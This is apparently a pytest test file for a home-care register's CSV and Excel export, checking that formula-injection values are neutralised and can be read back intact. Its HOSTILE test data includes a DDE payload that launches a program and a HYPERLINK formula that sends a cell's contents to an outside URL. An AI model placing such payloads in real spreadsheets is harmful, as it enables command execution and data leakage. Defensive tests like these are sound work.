"""Values written for a spreadsheet: nothing is ever worked out, and everything can be read back."""

import csv
import io

import pytest
from openpyxl import load_workbook

from homecare.desk.register.exports import to_csv, to_xlsx
from homecare.desk.register.inert import REASON_HEADING, as_written, inert
from tests.desk.registers import PLAIN, csv_of, expected, rows_of, source_of

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "\u200b=1", "＝1+1",
    "＋1",
    "－1", "＠SUM(1)", '=cmd|"/c calc"!A1', '=HYPERLINK("http://example.com/?x="&A2,"click")', "'=1+1",
    "''=1+1", "\ufeff=1",
]  # fmt: skip
HARMLESS = ["-12", "-0.5", "O'Brien", "'tis", "Dr O'Hara", "40mg pen", "<script>alert(1)</script>", '"quoted"', ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_an_apostrophe_in_a_csv_and_loses_it_again(text: str) -> None:
    assert inert(text).startswith("'")
    assert as_written(inert(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    assert inert(text) == as_written(text) == text


@pytest.mark.parametrize("phone", ["+447700900272", "+44 7700 900272"])
def test_a_telephone_number_survives_a_csv(phone: str) -> None:
    assert inert(phone) == "'" + phone
    content = to_csv([*PLAIN, REASON_HEADING], [[*{**PLAIN, "Mobile": phone}.values(), "x"]])
    assert rows_of(source_of(content))[0].mobile == "+447700900272"


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS[:-1], "+447700900272"])
def test_every_cell_of_a_workbook_is_text(text: str) -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(["A"], [[text]], title="Rejected"))).active
    assert sheet["A2"].data_type in {"s", "inlineStr"}
    assert sheet["A2"].value == text.replace("\r", "\n")


def test_characters_that_no_file_can_hold_are_left_out() -> None:
    assert inert("a\0b") == "ab"
    assert load_workbook(io.BytesIO(to_xlsx(["A"], [["a\0b\x07"]], title="R"))).active["A2"].value == "ab"


@pytest.mark.parametrize("note", sorted({row["note"] for row in expected()["rows_with_hostile_notes"]}))
def test_a_note_stays_text_through_export_and_import(note: str) -> None:
    rows = [[*PLAIN.values(), note, "date_of_birth_invalid"]]
    headings = [*PLAIN, "Notes", REASON_HEADING]
    assert rows_of(source_of(to_csv(headings, rows)))[0].notes == note
    assert rows_of(source_of(to_xlsx(headings, rows, title="R")))[0].notes == note


def test_an_apostrophe_in_another_hospitals_file_is_not_taken_off() -> None:
    assert rows_of(source_of(csv_of({**PLAIN, "Notes": "'=1+1"})))[0].notes == "'=1+1"


def test_no_exported_csv_value_begins_as_a_formula() -> None:
    content = to_csv(HOSTILE, [HOSTILE, HARMLESS]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    assert [cell for cell in cells if cell.strip()[:1] in set("=+@＝＋－＠")] == []
